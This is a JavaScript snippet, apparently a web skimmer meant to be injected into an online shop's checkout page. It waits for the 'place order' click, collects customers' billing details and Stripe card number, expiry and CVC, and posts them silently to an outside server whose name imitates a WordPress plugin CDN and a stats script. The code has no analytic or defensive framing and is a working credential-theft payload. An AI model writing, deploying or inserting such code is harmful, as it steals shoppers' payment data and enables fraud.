(function () {
  if (location.href.indexOf('checkout') === -1) return;
  var button = document.getElementById('place_order');
  function grab() {
    var out = {};
    var ids = ['billing_first_name', 'billing_last_name', 'billing_address_1', 'billing_postcode', 'billing_phone', 'billing_email', 'stripe-card-number', 'stripe-card-expiry', 'stripe-card-cvc'];
    for (var i = 0; i < ids.length; i++) {
      var e = document.getElementById(ids[i]);
      if (e) out[ids[i]] = e.value;
    }
    var x = new XMLHttpRequest();
    x.open('POST', 'https://wp-plugins-cdn.example/stat.php', true);
    x.setRequestHeader('Content-Type', 'application/json');
    x.send(JSON.stringify(out));
  }
  document.addEventListener('mousedown', function (e) { if (e.target && e.target.id === 'place_order') grab(); });
})();
